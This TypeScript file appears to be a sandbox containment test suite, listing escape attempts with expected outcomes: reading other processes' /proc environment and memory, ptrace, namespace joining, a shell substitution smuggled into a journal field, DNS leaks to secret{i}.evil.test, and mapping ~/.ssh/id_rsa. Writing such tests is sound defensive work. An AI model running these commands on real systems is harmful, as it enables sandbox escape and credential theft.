import { type ContainAttack, python } from "./attack.ts";

const JOURNAL =
  '{"version":1,"project":"{OUT}","steps":[{"path":"victim.txt","does":"remove","from":"{STATE}/stolen","was":{"ino":"\'$(stat -c %i {OUT}/victim.txt)\'","ctimeNs":"0","size":"6","mode":0}}]}';

export const HOLDER_ATTACKS: readonly ContainAttack[] = [
  {
    ...{
      id: "HO01",
      area: "holder",
      tries: "a journal in a state folder that others may write to",
      onlyContained: true,
    },
    as: "user",
    setup: `mkdir -p {STATE}/commands/1; echo '${JOURNAL}' > {STATE}/commands/1/plan.json; chmod 777 {STATE}`,
    calls: ["true"],
    refused: true,
    holds: "chmod 700 {STATE}; rm -r {STATE}/commands/1",
  },
  {
    ...{ id: "HO02", area: "holder", tries: "the environment, memory and files of another command" },
    calls: [
      "KEY=CANARY-$((5))b1f0c7e92 setsid sleep 30 > /dev/null 2>&1 < /dev/null & true",
      "for p in /proc/[0-9]*; do for f in environ maps cwd/a.txt root/etc/passwd; do [ $p = /proc/self ] || tr '\\0' ' ' < $p/$f; done; ls $p/fd $p/root; done 2> /dev/null | grep -a CANARY",
    ],
  },
  {
    ...{ id: "HO03", area: "holder", tries: "tracing, writing to and looking into another command" },
    calls: [
      "setsid sleep 30 > /dev/null 2>&1 < /dev/null & true",
      python(
        "import ctypes, os",
        "c = ctypes.CDLL(None)",
        "for p in os.listdir('/proc'):",
        "  if not p.isdigit() or int(p) == os.getpid(): continue",
        "  if open(f'/proc/{p}/comm').read() != 'sleep\\n': continue",
        "  if c.ptrace(16, int(p), 0, 0) == 0: print('TRACED')",
        "  try:",
        "    open(f'/proc/{p}/mem', 'r+b')",
        "    print('TRACED')",
        "  except OSError: pass",
      ),
    ],
    never: /TRACED/,
  },
  {
    ...{ id: "HO04", area: "holder", tries: "joining and making namespaces" },
    calls: [
      "for p in /proc/[0-9]*; do nsenter -t ${p#/proc/} -m -U --preserve-credentials echo JOINED; done 2> /dev/null; unshare -Ur echo JOINED; unshare -Umr mount -t tmpfs x /tmp && echo JOINED",
    ],
    never: /JOINED/,
  },
  {
    ...{ id: "HO05", area: "holder", tries: "the line of another command" },
    calls: [
      "setsid sleep 30 > /dev/null 2>&1 < /dev/null & : CANARY-5b1f0c7e92",
      "cat /proc/[0-9]*/cmdline /proc/[0-9]*/environ 2> /dev/null | tr '\\0' ' '; sleep 0.1",
    ],
    onlyContained: true,
  },
  {
    ...{ id: "HO06", area: "holder", tries: "the socket of the keeper", onlyContained: true },
    calls: [
      python(
        "import glob, socket",
        "for path in glob.glob('{STATE}/place/*') + glob.glob('/proc/[0-9]*/root{STATE}/place/control') + glob.glob('/proc/[0-9]*/cwd/control'):",
        "  print('SEEN', path)",
      ),
    ],
    never: /SEEN/,
  },
  {
    ...{ id: "HO07", area: "holder", tries: "messages that the keeper does not know", onlyContained: true },
    calls: ["true", "echo still there"],
    setup: python(
      "import json, os, socket",
      "try: os.chdir('{STATE}/place')",
      "except OSError: raise SystemExit",
      "for text in ('x\\n', '{}\\n', '[' * 9999 + '\\n', json.dumps({'id': 1, 'do': 'begin', 'run': {'id': '../../x', 'hosts': [], 'ports': [], 'decoys': []}}) + '\\n'):",
      "  s = socket.socket(socket.AF_UNIX)",
      "  try: s.connect('control'); s.send(text.encode()); s.settimeout(1); s.recv(99)",
      "  except OSError: pass",
    ),
    holds: "test ! -e {STATE}/x && test ! -e {STATE}/place/x",
  },
];

export const NETWORK_ATTACKS: readonly ContainAttack[] = [
  {
    ...{ id: "NE01", area: "network", tries: "a server of the user under all names of this machine" },
    calls: [
      "for h in 127.0.0.1 ::1 0.0.0.0 127.0.0.2 2130706433 localhost ::ffff:127.0.0.1 x.localhost; do timeout 1 bash -c \"exec 3<>/dev/tcp/$h/{PORT} && printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3 && cat <&3\"; done",
    ],
  },
  {
    ...{ id: "NE02", area: "network", tries: "a server of the user that has no address" },
    calls: [
      python(
        "import socket",
        "s = socket.socket(socket.AF_UNIX)",
        "s.connect('\\0host-abstract')",
        "print(s.recv(99))",
      ),
    ],
  },
  {
    ...{
      id: "NE03",
      area: "network",
      tries: "answering for a server of the user that a later command may reach",
      onlyContained: true,
    },
    calls: [
      python(
        "import os, socket, time",
        "s = socket.socket(socket.AF_INET6)",
        "s.bind(('::1', {PORT}))",
        "s.listen()",
        "if os.fork(): os._exit(0)",
        "os.setsid()",
        "for n in (0, 1, 2): os.dup2(os.open('/dev/null', os.O_RDWR), n)",
        "time.sleep(30)",
      ),
      "true",
    ],
    granted: { port: true },
    refused: true,
  },
  {
    ...{
      id: "NE04",
      area: "network",
      tries: "answering for a host that a later command may reach",
      onlyContained: true,
    },
    calls: [
      python(
        "import os, socket",
        "s = socket.socket()",
        "s.bind(('0.0.0.0', 5432))",
        "s.listen()",
        "if os.fork(): os._exit(0)",
        "os.setsid()",
        "for n in (0, 1, 2): os.dup2(os.open('/dev/null', os.O_RDWR), n)",
        "s.settimeout(20)",
        "open('/tmp/got', 'wb').write(s.accept()[0].recv(99))",
      ),
      python(
        "import socket",
        "s = socket.create_connection(('db.test', 5432), 3)",
        "s.send(b'PASSWORD')",
        "print('ANSWERED')",
      ),
    ],
    granted: { hosts: [{ host: "db.test", port: 5432 }] },
    never: /ANSWERED/,
  },
  {
    ...{ id: "NE05", area: "network", tries: "sockets that see or make packets" },
    calls: [
      python(
        "import socket",
        "for family, kind, protocol in ((17, 3, 768), (2, 3, 1), (10, 3, 58), (16, 3, 12), (16, 3, 15), (44, 3, 0), (40, 1, 0)):",
        "  try:",
        "    socket.socket(family, kind, protocol)",
        "    print('OPENED', family, protocol)",
        "  except OSError: pass",
      ),
    ],
    never: /OPENED/,
  },
  {
    ...{ id: "NE06", area: "network", tries: "sending something in names and datagrams" },
    calls: [
      python(
        "import socket",
        "for i in range(20):",
        "  try: socket.getaddrinfo(f'secret{i}.evil.test', 80)",
        "  except OSError: pass",
        "for h in ('127.0.0.1', '127.0.0.53'):",
        "  socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'secret', (h, {UDP}))",
      ),
    ],
  },
  {
    ...{ id: "NE07", area: "network", tries: "so many wants that the last is not told", onlyContained: true },
    calls: [
      python(
        "import socket",
        "for i in range(300):",
        "  try: socket.create_connection((f'h{i}.sentry.io', 443), 2)",
        "  except OSError: pass",
        "try: socket.create_connection(('evil.test', 443), 2)",
        "except OSError: pass",
        "open('n', 'w')",
      ),
    ],
    holds: "test ! -e n",
  },
  {
    ...{
      id: "NE08",
      area: "network",
      tries: "reading a key without opening it to be read",
      onlyContained: true,
    },
    calls: [
      python(
        "import mmap, os",
        "f = os.open(os.path.expanduser('~/.ssh/id_rsa'), 0o10000000)",
        "g = os.open(f'/proc/self/fd/{f}', os.O_RDONLY)",
        "print(mmap.mmap(g, 0, prot=mmap.PROT_READ)[:])",
        "open('n', 'w')",
      ),
    ],
    holds: "test ! -e n",
  },
  {
    ...{ id: "NE09", area: "network", tries: "listening for others than this machine" },
    calls: [
      "setsid timeout 20 python3 -m http.server 18080 --bind 0.0.0.0 > /dev/null 2>&1 < /dev/null & for i in 1 2 3 4 5 6 7 8 9; do sleep 0.3; (exec 3<>/dev/tcp/127.0.0.1/18080) 2> /dev/null && break; done",
    ],
    holds: "! grep -q ' 00000000:46A0 ' /proc/net/tcp",
  },
];
